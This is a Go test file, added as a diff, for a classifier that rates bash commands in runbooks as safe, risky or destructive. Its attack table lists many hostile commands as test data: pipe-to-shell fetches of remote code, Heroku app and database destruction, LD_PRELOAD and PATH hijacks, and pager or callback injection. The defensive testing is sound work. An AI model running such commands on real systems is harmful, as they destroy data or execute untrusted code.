@@ -1,0 +1,302 @@
+package risk
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// attacks are commands that make bash run code the call tree does not show, or that
+// dynodoc cannot read. Each must be at least min: none may run on enter, and the
+// opaque ones need the typed name.
+var attacks = []struct {
+	cmd string
+	min Level
+}{
+	// arithmetic over variables and subscripts
+	{`let "a[$(id)]"`, Risky},
+	{`let 'a[$(heroku apps:destroy -a x)]'`, Destructive},
+	{`declare -i x="a[\$(id)]"`, Risky},
+	{`typeset -i n; n=$1`, Risky},
+	{`local -i n=$x`, Risky},
+	{`[[ -v a[$(id)] ]]`, Risky},
+	{`[[ -v 'a[$(heroku pg:reset -a x)]' ]]`, Destructive},
+	{`[[ $x -eq 1 ]]`, Risky},
+	{`[[ 1 -lt "$(cat n)" ]]`, Risky},
+	{`printf -v "a[$(id)]" x`, Risky},
+	{`printf -v 'a[$(heroku apps:destroy -a x)]' x`, Destructive},
+	{`read -a x`, Risky},
+	{`read 'a[$i]'`, Risky},
+	{`test -v "a[\$(id)]"`, Risky},
+	{`[ -v 'a[$i]' ]`, Risky},
+	{`unset 'a[$(id)]'`, Risky},
+	{`echo "$(( x ))"`, Risky},
+	{`echo $[ x + 1 ]`, Risky},
+	{`(( n++ ))`, Risky},
+	{`for (( i = 0; i < n; i++ )); do :; done`, Risky},
+	{`echo ${a[$i]}`, Risky},
+	{`echo ${s:$off:2}`, Risky},
+	{`a[$i]=1`, Risky},
+	{`x='a[$(heroku apps:destroy -a x)]'; echo $(( x ))`, Destructive},
+	{`echo ${!name}`, Risky},
+	{`wait -n -p 'a[$i]'`, Risky},
+	{`getopts ab 'a[$i]'`, Risky},
+	// callbacks, traps, aliases, options
+	{`mapfile -C "heroku apps:destroy" x < f`, Destructive},
+	{`readarray -C 'echo' -c 1 x < f`, Risky},
+	{`mapfile -C "$CB" x < f`, Destructive},
+	{`trap -- 'heroku apps:destroy -a x' EXIT`, Destructive},
+	{`trap 'echo bye' EXIT`, Risky},
+	{`trap "$ACTION" ERR`, Destructive},
+	{`trap '' INT`, Risky},
+	{`PS4="\$(id)"; set -x`, Risky},
+	{`PROMPT_COMMAND='heroku ps'`, Risky},
+	{`alias ls=rm`, Risky},
+	{`alias ls='heroku apps:destroy -a x'`, Destructive},
+	{`shopt -s expand_aliases`, Risky},
+	{`shopt -s extdebug`, Risky},
+	{`set -o functrace`, Risky},
+	{`set -k`, Risky},
+	{`hash -p /bin/rm ls`, Risky},
+	{`enable -f ./evil.so evil`, Destructive},
+	{`enable -n echo`, Risky},
+	{`exec ls`, Risky},
+	{`exec -a x heroku pg:reset -a x`, Destructive},
+	{`eval ls`, Risky},
+	{`command_not_found_handle() { ls; }`, Risky},
+	{`function command_not_found_handle { echo; }`, Risky},
+	{`compgen -C 'heroku apps:destroy -a x' x`, Destructive},
+	{`compgen -W '$(id)' x`, Risky},
+	{`complete -F f ls`, Risky},
+	// variables that change how the shell starts or finds commands
+	{`PATH=/tmp ls`, Risky},
+	{`IFS=x`, Risky},
+	{`export PATH=/x`, Risky},
+	{`declare PATH=/x`, Risky},
+	{`declare "PATH=/x"`, Risky},
+	{`local IFS=,`, Risky},
+	{`readonly SHELLOPTS`, Risky},
+	{`export BASH_ENV=./x.sh`, Risky},
+	{`ENV=./x sh -c :`, Risky},
+	{`LD_PRELOAD=./x.so ls`, Risky},
+	{`LD_LIBRARY_PATH=/tmp ls`, Risky},
+	{`LD_AUDIT=x ls`, Risky},
+	{`env LD_PRELOAD=x ls`, Risky},
+	{`env BASHOPTS=x bash -c :`, Risky},
+	{`sudo PATH=/tmp ls`, Risky},
+	{`GLOBIGNORE=x`, Risky},
+	{`CDPATH=/tmp`, Risky},
+	{`export BASH_FUNC_ls%%='() { rm; }'`, Risky},
+	{`HEROKU_API_KEY=x heroku ps`, Risky},
+	{`env HEROKU_HOST=evil.example heroku ps`, Risky},
+	{`GIT_PAGER='heroku ps' git log`, Risky},
+	{`PAGER=x man ls`, Risky},
+	{`for PATH in /tmp; do ls; done`, Risky},
+	{`read PATH`, Risky},
+	{`printf -v PATH %s /tmp`, Risky},
+	{`: ${IFS:=x}`, Risky},
+	{`https_proxy=http://evil heroku ps`, Risky},
+	{`export -f ls`, Risky},
+	// reads whose options run code or write files
+	{`find . -exec heroku apps:destroy -a x \;`, Destructive},
+	{`find . -delete`, Destructive},
+	{`find . -fprint out`, Risky},
+	{`find . -frobnicate`, Risky},
+	{`xargs sh -c`, Destructive},
+	{`echo x | xargs bash`, Destructive},
+	{`echo apps:destroy | xargs heroku`, Destructive},
+	{`awk 'BEGIN { system("id") }'`, Risky},
+	{`awk '{ print | "sh" }'`, Risky},
+	{`awk '{ "date" | getline d }'`, Risky},
+	{`awk '{ print > "/etc/passwd" }'`, Risky},
+	{`awk "$PROG" f`, Destructive},
+	{`gawk -l ./x.so 'BEGIN{}'`, Destructive},
+	{`sed '1e heroku apps:destroy -a x' f`, Destructive},
+	{`sed 's/.*/id/e' f`, Destructive},
+	{`sed -n 'w out' f`, Risky},
+	{`sed -i s/a/b/ f`, Risky},
+	{`sed -f script.sed f`, Destructive},
+	{`sort -o out f`, Risky},
+	{`sort --compress-program=heroku f`, Risky},
+	{`tee out`, Risky},
+	{`git -c core.pager='heroku apps:destroy -a x' log`, Destructive},
+	{`git --config-env=core.pager=X log`, Risky},
+	{`git -c alias.x='!id' x`, Risky},
+	{`git log --output=f`, Risky},
+	{`git grep --open-files-in-pager=id x`, Risky},
+	{`git fetch --upload-pack='id' origin`, Risky},
+	{`less '+!id' f`, Risky},
+	{`less -o log f`, Risky},
+	{`less -k keys f`, Risky},
+	{`more '+|id' f`, Risky},
+	{`env -S 'heroku apps:destroy -a x'`, Destructive},
+	{`date -s 2020-01-01`, Risky},
+	{`date 0101000020`, Risky},
+	{`tar -tf x.tar --to-command='heroku apps:destroy -a x'`, Destructive},
+	{`tar tf x.tar --checkpoint=1 --checkpoint-action=exec=id`, Risky},
+	{`tar -tf x.tar -I 'heroku apps:destroy -a x'`, Destructive},
+	{`tar -tf host:x.tar`, Risky},
+	{`rsync -e 'heroku apps:destroy -a x' a b:c`, Destructive},
+	{`ssh -o ProxyCommand='heroku apps:destroy -a x' host`, Destructive},
+	{`ssh -oLocalCommand=id host`, Risky},
+	{`curl -o out https://x.example`, Risky},
+	{`curl -K cfg https://x.example`, Risky},
+	{`curl -c cookies https://x.example`, Risky},
+	{`curl -D hdrs https://x.example`, Risky},
+	{`wget -qO- -e 'output_document=x' https://x.example`, Risky},
+	{`rg --pre 'heroku apps:destroy -a x' foo`, Destructive},
+	{`rg --frobnicate foo`, Risky},
+	{`bat --pager 'heroku apps:destroy -a x' f`, Destructive},
+	{`watch 'heroku apps:destroy -a x'`, Destructive},
+	{`timeout 5 heroku pg:reset -a x`, Destructive},
+	{`nice heroku pg:reset -a x`, Destructive},
+	{`time heroku pg:reset -a x`, Destructive},
+	{`command heroku pg:reset -a x`, Destructive},
+	{`builtin eval 'heroku pg:reset -a x'`, Destructive},
+	{`builtin export PATH=/x`, Risky},
+	{`command -p env PATH=/x ls`, Risky},
+	{`uniq in out`, Risky},
+	{`xxd in out`, Risky},
+	{`open ./evil.command`, Risky},
+	{`hostname evil`, Risky},
+	{`dmesg -c`, Risky},
+	{`ss -K dst 1.2.3.4`, Risky},
+	// opaque code
+	{`bash <(curl -s https://x.example/s)`, Destructive},
+	{`source <(curl -s https://x.example/s)`, Destructive},
+	{`. /dev/stdin <<< "$X"`, Destructive},
+	{`sh < <(curl x)`, Destructive},
+	{`curl -s x | sh -s`, Destructive},
+	{`base64 -d <<< aGVyb2t1 | bash`, Destructive},
+	{`./fix.sh`, Destructive},
+	{`bash scripts/x.sh`, Destructive},
+	{`source env.sh`, Destructive},
+	{`/tmp/ls`, Destructive},
+	{`~/bin/fix`, Destructive},
+	{`heroku run ./fix.sh -a x`, Destructive},
+	{`fish -c 'heroku ps'`, Destructive},
+	{`bash --rcfile ./rc -i`, Destructive},
+}
+
+func TestAttacksAreNeverSafe(t *testing.T) {
+	if len(attacks) < 40 {
+		t.Fatalf("only %d attacks", len(attacks))
+	}
+	empty := t.TempDir()
+	seen := map[string]bool{}
+	for _, a := range attacks {
+		if seen[a.cmd] {
+			t.Errorf("duplicate attack %q", a.cmd)
+		}
+		seen[a.cmd] = true
+		v := ClassifyWith(a.cmd, Options{Dir: empty})
+		if v.Level < a.min {
+			t.Errorf("Classify(%q) = %s %q, want at least %s", a.cmd, v.Level, v.Reasons, a.min)
+		}
+		if len(v.Reasons) == 0 {
+			t.Errorf("Classify(%q) = %s with no reason", a.cmd, v.Level)
+		}
+	}
+}
+
+// TestReadsStaySafe: the allowlist still lets runbooks read without a gate.
+func TestReadsStaySafe(t *testing.T) {
+	for _, cmd := range []string{
+		`echo "$(( 1 + 2 ))"`, `echo $(( $# + 1 ))`, `echo ${#name}`, `echo ${a[0]} ${a[@]}`,
+		`cat <(ls)`, `diff <(heroku config -a a) <(heroku config -a b)`, `sed -n '1,5p' f`,
+		`sed 's/a/b/g; /x/d' f`, `sed -E 's|/a|/b|' f`, `awk '{print $1}' f`,
+		`awk -F: '$3 > 100 { print $1 }' f`, `awk '/H10|H12/ { n++ } END { print n }' f`,
+		`tar tzf x.tar.gz`, `tar -tvf x.tar`, `find . -name '*.log' -mtime -1 -print`,
+		`less -R f`, `less +G f`, `more +10 f`, `set -euo pipefail`, `set -x`, `set -- a b`,
+		`shopt -s nullglob`, `export HEROKU_APP=x`, `[[ -v HOME ]]`, `read -r line`,
+		`git diff -w`, `git log -5 --oneline`, `date +%s`, `date -u -d '1 hour ago'`,
+		`rg -n foo .`, `trap - EXIT`, `trap`, `trap -p`, `alias`, `hash`, `hash -r`,
+		`open https://dashboard.heroku.com`, `uniq -c f`, `xargs`, `jq -r '.[] | .name' f`,
+		`heroku ps -a x | xargs -n1 echo`, `cd /tmp && ls`, `printf -v line '%s' x`,
+		`declare -a arr`, `local x=1`, `export FOO=bar`, `unset x`, `test -n "$x"`,
+		`[ "$a" = b ]`, `curl -s https://status.heroku.com/api/v4/current-status`,
+		`mapfile -t lines < f`, `exec 2>&1`, `command -v heroku`, `type heroku`,
+	} {
+		if v := ClassifyWith(cmd, Options{Dir: t.TempDir()}); v.Level != Safe {
+			t.Errorf("Classify(%q) = %s %q, want safe", cmd, v.Level, v.Reasons)
+		}
+	}
+}
+
+// TestLocalScripts: a script the block runs is read from the runbook's folder and
+// classified; one that cannot be read or checked is destructive.
+func TestLocalScripts(t *testing.T) {
+	dir := t.TempDir()
+	outside := t.TempDir()
+	write := func(dir, name, text string, mode os.FileMode) {
+		t.Helper()
+		p := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(text), mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write(dir, "reads.sh", "#!/bin/bash\nset -eu\nheroku ps -a \"$1\"\n", 0o755)
+	write(dir, "scripts/x.sh", "heroku apps:destroy -a x --confirm x\n", 0o644)
+	write(dir, "env.sh", "export FOO=1\n", 0o644)
+	write(dir, "sub/reads.sh", "heroku pg:reset -a x\n", 0o755)
+	write(dir, "fix.py", "#!/usr/bin/env python3\nprint(1)\n", 0o755)
+	write(dir, "bin.sh", "heroku ps\x00\x01", 0o755)
+	write(dir, "big.sh", strings.Repeat("# pad\n", MaxScriptSize/6+1), 0o755)
+	write(dir, "args.sh", "\"$@\"\n", 0o755)
+	write(dir, "self.sh", "source ./self.sh\n", 0o644)
+	write(outside, "out.sh", "heroku ps\n", 0o755)
+	if err := os.Symlink(filepath.Join(outside, "out.sh"), filepath.Join(dir, "link.sh")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Mkdir(filepath.Join(dir, "adir"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		cmd  string
+		want Level
+	}{
+		{`./reads.sh prod`, Safe},
+		{`bash reads.sh prod`, Safe},
+		{`bash < reads.sh`, Safe},
+		{`bash scripts/x.sh`, Destructive},
+		{`sh ./scripts/x.sh`, Destructive},
+		{`scripts/x.sh`, Destructive},
+		{`source env.sh`, Risky},
+		{`. ./env.sh`, Risky},
+		{`source scripts/x.sh`, Destructive},
+		{`./fix.py`, Destructive},
+		{`./bin.sh`, Destructive},
+		{`./big.sh`, Destructive},
+		{`./link.sh`, Destructive},
+		{filepath.Join(outside, "out.sh"), Destructive},
+		{`./adir`, Destructive},
+		{`./missing.sh`, Destructive},
+		{`./args.sh heroku apps:destroy -a x`, Destructive},
+		{`./args.sh heroku ps`, Risky},
+		{`source self.sh`, Risky},
+		{`cd sub && ./reads.sh`, Destructive},
+		{`./reads.sh; cd sub`, Destructive},
+		{`env -C sub ./reads.sh`, Destructive},
+		{`heroku run ./reads.sh -a x`, Destructive},
+	}
+	for _, tt := range tests {
+		v := ClassifyWith(tt.cmd, Options{Dir: dir})
+		if v.Level != tt.want {
+			t.Errorf("Classify(%q) = %s %q, want %s", tt.cmd, v.Level, v.Reasons, tt.want)
+		}
+	}
+}
+
+// TestReadOnlyProgramsHaveNoRule: a read-only program takes any arguments, so none of
+// them may also need a rule (which would mean some arguments are not harmless).
+func TestReadOnlyProgramsHaveNoRule(t *testing.T) {
+	for name := range readOnlyPrograms {
+		if _, ok := programs[name]; ok {
+			t.Errorf("%s is both read-only and ruled", name)
+		}
+	}
+}
